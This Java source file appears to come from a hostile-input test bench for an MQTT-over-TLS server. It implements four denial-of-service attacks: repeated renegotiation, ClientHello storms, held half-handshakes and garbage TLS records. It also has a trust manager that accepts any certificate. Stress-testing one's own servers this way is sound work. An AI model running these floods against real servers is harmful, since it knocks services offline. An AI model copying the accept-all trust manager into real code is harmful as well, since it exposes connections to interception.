package io.hongyan.bench.hostile;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.util.Arrays;
import java.util.List;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/** Attacks on a port with TLS. */
final class TlsAttacks {
    private static final int SOCKETS = 300;
    private static final int HELLOS = 100;
    private static final int RENEGOTIATIONS = 20;
    private static final String TLS_1_2 = "TLSv1.2";
    private static final SSLContext CONTEXT = trusting();
    private static final byte[] HELLO = hello();

    private TlsAttacks() {}

    static List<Attack> all() {
        return List.of(
                new Attack(
                        "tls-renegotiation",
                        "TLS 1.2 that asks for a new handshake again and again, before and after a login",
                        20,
                        TlsAttacks::renegotiation),
                new Attack(
                        "tls-storm",
                        "100 valid first packets of TLS at a time, each of which costs the server a signature",
                        200,
                        TlsAttacks::storm),
                new Attack("tls-half", "300 handshakes that stop in their first packet", 1_000, TlsAttacks::half),
                new Attack(
                        "tls-records",
                        "garbage instead of records after a complete handshake",
                        50,
                        TlsAttacks::records));
    }

    private static void renegotiation(Target target, Raw.Sockets sockets, int number) throws IOException {
        Raw raw = sockets.open(target.mqtts());
        SSLSocket socket = raw.secure(CONTEXT, TLS_1_2);
        if (number % 2 == 1) {
            String uid = target.uid("again", number % 5);
            raw.send(Packets.connect(uid, "a", target.tokenOf().apply(uid)));
            raw.read();
        }
        for (int i = 0; i < RENEGOTIATIONS; i++) {
            // Another ClientHello; the server may answer with an alert, which is an exception here.
            socket.startHandshake();
        }
    }

    private static void storm(Target target, Raw.Sockets sockets, int number) throws IOException {
        for (int i = 0; i < HELLOS && !target.over().getAsBoolean(); i++) {
            sockets.open(target.mqtts(), i).send(HELLO);
        }
        sockets.pause(50);
    }

    private static void half(Target target, Raw.Sockets sockets, int number) throws IOException {
        byte[] part = Arrays.copyOf(HELLO, HELLO.length / 2);
        for (int i = 0; i < SOCKETS && !target.over().getAsBoolean(); i++) {
            sockets.open(target.mqtts(), i).send(part);
        }
        sockets.hold(target, 1_000);
    }

    private static void records(Target target, Raw.Sockets sockets, int number) throws IOException {
        Raw raw = sockets.open(target.mqtts());
        OutputStream below = raw.output();
        raw.secure(CONTEXT, number % 2 == 0 ? TLS_1_2 : "TLSv1.3");
        byte[] garbage = Packets.random(number, 1 << 10);
        System.arraycopy(Packets.hex("17 0303 4000"), 0, garbage, 0, 5);
        below.write(Packets.repeated(garbage, 16));
        raw.read();
    }

    /** The first packet of a client, with its own key. */
    private static byte[] hello() {
        try {
            SSLEngine engine = CONTEXT.createSSLEngine("localhost", 0);
            engine.setUseClientMode(true);
            ByteBuffer packet = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
            engine.wrap(ByteBuffer.allocate(0), packet);
            return Arrays.copyOf(packet.array(), packet.position());
        } catch (IOException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static SSLContext trusting() {
        try {
            SSLContext context = SSLContext.getInstance("TLS");
            context.init(null, new TrustManager[] {new Anyone()}, null);
            return context;
        } catch (GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    /** An attacker accepts any certificate. */
    private static final class Anyone implements X509TrustManager {
        @Override
        public void checkClientTrusted(X509Certificate[] chain, String kind) {
            // It has no clients.
        }

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String kind) {
            // Any server.
        }

        @Override
        public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
        }
    }
}
